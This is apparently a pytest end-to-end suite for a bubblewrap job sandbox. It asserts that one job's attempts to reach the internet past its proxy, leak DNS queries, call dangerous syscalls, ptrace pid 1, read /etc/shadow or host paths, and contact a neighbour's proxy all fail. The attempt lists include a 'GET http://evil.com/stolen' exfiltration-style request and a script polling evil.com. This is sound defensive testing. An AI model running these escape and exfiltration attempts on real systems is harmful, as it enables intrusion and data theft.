"""Everything but the own proxy fails from inside, and nothing arrives where it was sent, which is really alive.

The same attempts succeed in the open, which tests of the workload show; here a job makes all of them behind a fence,
while a neighbour is alive behind its own.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.e2e import documents, traces
from tests.e2e.listeners import Listeners
from tests.rig import addresses

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.e2e.installation import Installation
    from tests.e2e.listeners import Arrival
    from tests.rig.internet import Packet

pytestmark = [pytest.mark.bubblewrap, pytest.mark.rig]

LEAK = "leak.example.com"
"""Asked for by nobody but the attempts: seen at a resolver, it came from inside."""
REQUEST = "GET http://evil.com/stolen HTTP/1.0\r\n\r\n"
NEIGHBOUR = """
import os, time, urllib.error, urllib.request
while True:
    try:
        word = urllib.request.urlopen("http://evil.com/neighbour", timeout=5).status
    except urllib.error.URLError as error:
        word = error
    print(word, flush=True)
    time.sleep(0.1)
"""
FAMILIES = {
    "alg": 38,
    "bluetooth": 31,
    "can": 29,
    "key": 15,
    "kcm": 41,
    "qipcrtr": 42,
    "tipc": 30,
    "vsock": 40,
    "xdp": 44,
}
CALLS = {  # linux/unistd.h, x86-64; arguments as numbers, null pointers where one is wanted
    "bpf": (321, 0, 0, 0),
    "clone3": (435, 0, 0),
    "io_uring_setup": (425, 8, 0),
    "keyctl": (250, 0, -1, 0),
    "kexec_load": (246, 0, 0, 0, 0),
    "open_by_handle_at": (304, 0, 0, 0),
    "open_tree": (428, -100, 0, 1),
    "perf_event_open": (298, 0, 0, -1, -1, 0),
    "pidfd_getfd": (438, 0, 0, 0),
    "process_vm_readv": (310, 1, 0, 0, 0, 0, 0),
    "userfaultfd": (323, 0),
    "the x32 variant of getpid": (0x40000000 | 39,),
}


@dataclass(frozen=True, slots=True)
class Tried:
    """What one job tried, and what the world saw of it."""

    lines: dict[str, dict[str, Any]]
    result: dict[str, Any]
    neighbour: dict[str, Any]
    neighbour_output: list[bytes]
    neighbour_decisions: list[dict[str, Any]]
    arrivals: list[Arrival]
    packets: list[Packet]
    queries: Counter[tuple[str, str]]
    sandbox_uids: tuple[set[int], set[int]]
    listening: set[int]


def internet() -> list[dict[str, object]]:
    """Attempts to reach the internet past the proxy, at listeners that stand there."""
    orders: list[dict[str, object]] = []
    for address in (*addresses.EXAMPLE, *addresses.FORBIDDEN, *addresses.EVIL):
        orders += [{"do": "tcp", "address": address, "port": port, "send": REQUEST} for port in (80, 443, 5432)]
        orders.append({"do": "udp", "address": address, "port": 443})
        orders.append({"do": "icmp", "address": address})
        orders.append({"do": "icmp", "address": address, "raw": True})
    for address in (addresses.RESOLVER_V4, addresses.RESOLVER_V6, *addresses.EXAMPLE, addresses.METADATA, "8.8.8.8"):
        orders += [{"do": do, "address": address, "name": LEAK} for do in ("dns_udp", "dns_tcp")]
    orders += [
        {"do": "dns_udp", "address": "127.0.0.11", "name": LEAK},
        {"do": "dns_tcp", "address": "127.0.0.53", "name": LEAK},
    ]
    orders.append({"do": "resolve", "name": LEAK})
    orders.append({"do": "link_local", "address": addresses.INTERNET_LINK_LOCAL, "port": 80})
    orders.append({"do": "bind_to_device", "address": addresses.EXAMPLE[0], "port": 80})
    orders.append({"do": "bind_to_device", "device": addresses.HOST_LINK, "address": addresses.EXAMPLE[0], "port": 80})
    return orders


def kernel() -> list[dict[str, object]]:
    """Attempts to get at another network, or at others' processes, by the kernel."""
    orders: list[dict[str, object]] = [
        {"do": "packet"},
        {"do": "packet", "address": addresses.EXAMPLE[0], "port": 9},
        {"do": "vsock"},
        {"do": "unshare", "namespaces": ["user", "net"]},
        {"do": "setns"},
        {"do": "setns", "path": "/proc/self/ns/net"},
        {"do": "mount"},
        {"do": "ptrace"},
        {"do": "ptrace", "pid": 1},
    ]
    orders += [{"do": "netlink", "change": change} for change in ("address", "route", "link")]
    orders += [
        {"do": "unshare", "namespaces": [kind]} for kind in ("user", "net", "mnt", "pid", "uts", "ipc", "cgroup")
    ]
    for name, number in FAMILIES.items():
        socket_call = {"do": "syscall", "number": 41, "arguments": [number, 3, 0]}
        orders.append({"attempt": f"a socket of family {name}", **socket_call})
    for name, (number, *arguments) in CALLS.items():
        orders.append({"attempt": name, "do": "syscall", "number": number, "arguments": arguments})
    return orders


def files(installation: Installation) -> list[dict[str, object]]:
    """Attempts to read and write what is the host's."""
    host = [installation.root, installation.spool, installation.runtime, installation.host_config, installation.trust]
    paths = [
        *map(str, host),
        "/etc/shadow",
        "/root",
        "/home",
        "/var",
        "/run/netns",
        "/sys",
        "/boot",
        "/proc/1/root/root",
    ]
    orders: list[dict[str, object]] = [{"do": "read", "path": path} for path in paths]
    writable = (
        "/usr/bin/new",
        "/etc/new",
        "/job/new",
        "/job/workload.py",
        "/new",
        "/dev/new",
        "/proc/sys/kernel/hostname",
    )
    return orders + [{"do": "write", "path": path} for path in writable]


def neighbours() -> list[dict[str, object]]:
    """Attempts to get to the neighbour's proxy, or to be taken for the neighbour."""
    orders: list[dict[str, object]] = [
        {"do": "tcp", "address": address, "port": 3128, "send": REQUEST}
        for address in (*addresses.HOST_ADDRESSES, "127.0.0.2", "127.255.255.254", "::1")
    ]
    # What the sandbox's own proxy listens on is its own; every other port of its loopback is dead.
    orders += [{"do": "tcp", "address": "127.0.0.1", "port": port} for port in (22, 53, 80, 443, 3127, 3129, 8080)]
    return orders


def link_local(listening: Listeners) -> list[dict[str, object]]:
    """Attempts to reach the host's listeners by its link-local address."""
    ports = {target.port for target in listening.targets if target.kind == "tcp"}
    return [{"do": "link_local", "address": addresses.HOST_LINK_LOCAL, "port": port} for port in ports]


def named(order: dict[str, object]) -> dict[str, object]:
    """Name an attempt after what it tries."""
    words = [str(value)[:40] for key, value in order.items() if key not in {"send", "attempt"}]
    return {"attempt": " ".join(words), **order}


@pytest.fixture(scope="module")
def listening(bare: Installation) -> Iterator[Listeners]:
    """Live listeners in the host's namespace."""
    with Listeners(bare.rig) as found:
        yield found


@pytest.fixture(scope="module")
def tried(bare: Installation, listening: Listeners) -> Tried:
    """Everything is tried by one job while a neighbour is alive; listeners are proven alive before and after."""
    rig = bare.rig
    bare.adopt(
        {
            "platform": documents.platform(),
            "agents/helper": documents.agent(allow=["example.com"]),
            "agents/neighbour": documents.agent("neighbour", allow=["evil.com"]),
        }
    )
    bare.drop("neighbour", documents.script(NEIGHBOUR, agent="neighbour"))
    live = bare.runtime / "runs" / bare.live("neighbour")["run"] / "output.log"
    bare.eventually(lambda: b"200" in live.read_bytes(), "the neighbour reaches its host through its proxy")
    neighbour_uids = {uid for _, uid, _ in traces.processes(bare) if uid in bare.uids}
    orders: list[dict[str, object]] = [
        *(target.attempt() for target in listening.targets),
        *map(named, link_local(listening)),
        *map(named, [*internet(), *neighbours(), *kernel(), *files(bare)]),
        {"attempt": "the neighbour's host by the own proxy", "do": "proxy_get", "host": "evil.com"},
        {"attempt": "whoami", "do": "whoami"},
        {"attempt": "proc net", "do": "proc_net"},
    ]
    listening.prove()
    rig.clear()
    before = len(live.read_bytes().splitlines())
    bare.drop("helper", documents.attempts(*orders, wait_s=0.5))
    bare.live("helper")
    own_uids = {uid for _, uid, _ in traces.processes(bare) if uid in bare.uids} - neighbour_uids
    listening_ports = host_listeners(bare)
    result = bare.result("helper", timeout=90)
    assert (result["code"], result["status"]) == ("exited", 0), result
    arrivals = listening.arrivals()
    packets, queries = rig.packets(), Counter((query.name, query.transport) for query in rig.queries())
    listening.prove()
    assert len(live.read_bytes().splitlines()) > before, "the neighbour was alive all the time"
    neighbour = bare.cancel("neighbour")
    return Tried(
        lines=documents.lines(bare, "helper"),
        result=result,
        neighbour=neighbour,
        neighbour_output=bare.output("neighbour").splitlines(),
        neighbour_decisions=bare.decisions("neighbour"),
        arrivals=arrivals,
        packets=packets,
        queries=queries,
        sandbox_uids=(own_uids, neighbour_uids),
        listening=listening_ports,
    )


def host_listeners(installation: Installation) -> set[int]:
    """TCP ports that anybody listens on in the daemon's network namespace."""
    assert installation.daemon is not None
    base = Path(f"/proc/{installation.daemon.pid}/net")
    rows = [line.split() for name in ("tcp", "tcp6") for line in (base / name).read_text().splitlines()[1:]]
    return {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}


def outcomes(tried: Tried, names: list[str]) -> dict[str, str]:
    """Whatever of these attempts did not fail."""
    return {name: f"{tried.lines[name]}" for name in names if tried.lines[name]["outcome"] != "failed"}


def test_no_listener_of_the_host_is_reached(tried: Tried, listening: Listeners) -> None:
    kinds = {target.kind for target in listening.targets}
    assert kinds == {"tcp", "udp", "icmp", "unix_abstract", "unix_path"}
    assert {target.address for target in listening.targets} >= set(addresses.HOST_ADDRESSES)
    assert outcomes(tried, [target.name for target in listening.targets]) == {}
    assert outcomes(tried, [str(named(order)["attempt"]) for order in link_local(listening)]) == {}


def test_nothing_arrives_at_any_listener_of_the_host(tried: Tried) -> None:
    assert tried.arrivals == []


def test_nothing_of_the_internet_is_reached_past_the_proxy(tried: Tried) -> None:
    assert outcomes(tried, [str(named(order)["attempt"]) for order in internet()]) == {}


def test_no_packet_leaves_but_those_of_the_neighbours_proxy(tried: Tried) -> None:
    allowed = {("udp", addresses.RESOLVER_V4, 53), *(("tcp", address, 80) for address in addresses.EVIL)}
    strange = [packet for packet in tried.packets if (packet.kind, packet.address, packet.port) not in allowed]
    assert strange == []
    assert {packet.address for packet in tried.packets} & set(addresses.EVIL), "what does leave is seen"


def test_no_resolver_is_asked_from_inside(tried: Tried) -> None:
    assert {name for name, _ in tried.queries} <= {"evil.com"}
    assert {transport for _, transport in tried.queries} <= {"udp"}


def test_the_c_library_finds_no_name(tried: Tried) -> None:
    assert tried.lines[f"resolve {LEAK}"]["outcome"] == "failed"


def test_a_neighbours_proxy_is_out_of_reach(tried: Tried) -> None:
    assert outcomes(tried, [str(named(order)["attempt"]) for order in neighbours()]) == {}
    assert tried.lines["the neighbour's host by the own proxy"]["detail"]["code"] == "not_listed"


def test_the_neighbour_worked_all_the_time_and_decided_for_nobody_else(tried: Tried) -> None:
    assert set(tried.neighbour_output) == {b"200"}
    assert tried.neighbour["code"] == "cancelled"
    assert {(one["host"], one["port"], one["verdict"]) for one in tried.neighbour_decisions} == {
        ("evil.com", 80, "allow")
    }
    assert len({one["run"] for one in tried.neighbour_decisions}) == 1


def test_two_sandboxes_share_neither_uid_nor_namespace(tried: Tried) -> None:
    own, neighbour = tried.sandbox_uids
    assert len(own) == len(neighbour) == 1
    assert own != neighbour
    first, second = (set(namespaces(result)) for result in (tried.result, tried.neighbour))
    assert len(first) == len(second) == 7
    assert first & second == set()


def namespaces(result: dict[str, Any]) -> list[str]:
    """Read the namespaces out of a result's evidence."""
    (line,) = [line for line in result["backend"]["evidence"] if line.startswith("own namespaces")]
    return str(line).rpartition(": ")[2].split()


def test_no_proxy_listens_on_the_host(tried: Tried, listening: Listeners) -> None:
    ours = {target.port for target in listening.targets if target.kind == "tcp"}
    assert 3128 not in tried.listening
    assert tried.listening >= ours


@pytest.mark.parametrize("order", kernel(), ids=lambda order: str(named(order)["attempt"]))
def test_the_kernel_refuses(tried: Tried, order: dict[str, object]) -> None:
    line = tried.lines[str(named(order)["attempt"])]
    assert line["outcome"] == "failed", line


@pytest.mark.parametrize("family", ["a socket of family vsock", "packet", "vsock"])
def test_a_socket_family_that_reaches_past_the_namespace_does_not_exist(tried: Tried, family: str) -> None:
    error = tried.lines[family]["detail"]["error"]
    assert error in {"EAFNOSUPPORT", "EPERM"}


def test_files_of_the_host_are_not_there(tried: Tried, bare: Installation) -> None:
    assert outcomes(tried, [str(named(order)["attempt"]) for order in files(bare)]) == {}


def test_the_command_is_nobody_with_nothing(tried: Tried) -> None:
    me = tried.lines["whoami"]["detail"]
    assert me["status"]["Uid"].split() == ["65534"] * 4
    assert {me["status"][name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} == {"0" * 16}
    assert (me["status"]["NoNewPrivs"], me["status"]["Seccomp"], me["status"]["Groups"]) == ("1", "2", "")
    assert set(me["descriptors"]) == {"0", "1", "2"}
    assert me["descriptors"]["0"] == "/dev/null"
    assert me["processes"] == sorted({1, me["pid"]})
    assert me["cwd"] == "/job"


def test_the_sandboxs_network_is_loopback_alone(tried: Tried) -> None:
    seen = tried.lines["proc net"]["detail"]
    assert seen["interfaces"] == ["lo"]
    assert seen["rows"]["route"] == 0
    assert seen["rows"]["unix"] == 0
    assert seen["rows"]["tcp6"] == seen["rows"]["udp"] == seen["rows"]["udp6"] == 0
